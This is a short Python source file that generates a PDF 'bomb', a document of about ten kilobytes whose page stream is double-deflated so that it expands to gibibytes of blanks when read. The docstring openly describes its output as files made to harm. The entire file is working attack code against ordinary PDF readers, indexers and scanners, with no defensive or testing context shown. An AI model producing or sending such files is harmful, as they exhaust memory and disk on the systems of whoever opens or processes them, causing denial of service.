"""Files made to harm: small on the disk, enormous where they are read."""

import zlib

_MEBIBYTE = 2**20


def make_bomb(gibibytes: int = 4) -> bytes:
    """A PDF of some ten kilobytes, whose page's content inflates twice over to so many gibibytes of blanks."""
    return _pdf(zlib.compress(_deflated(b" " * _MEBIBYTE, gibibytes * 1024), 9))


def _deflated(piece: bytes, times: int) -> bytes:
    """The piece so many times, deflated in no time: after a full flush the same piece deflates to the same bytes."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    packed = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + packed * times + packer.flush(zlib.Z_FINISH)


def _pdf(stream: bytes) -> bytes:
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n%s\nendstream" % (len(stream), stream),
    )
    made, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer<</Root 1 0 R/Size 5>>\nstartxref\n%d\n%%%%EOF" % len(made)
    return made + b"xref\n0 5\n0000000000 65535 f \n" + table + trailer
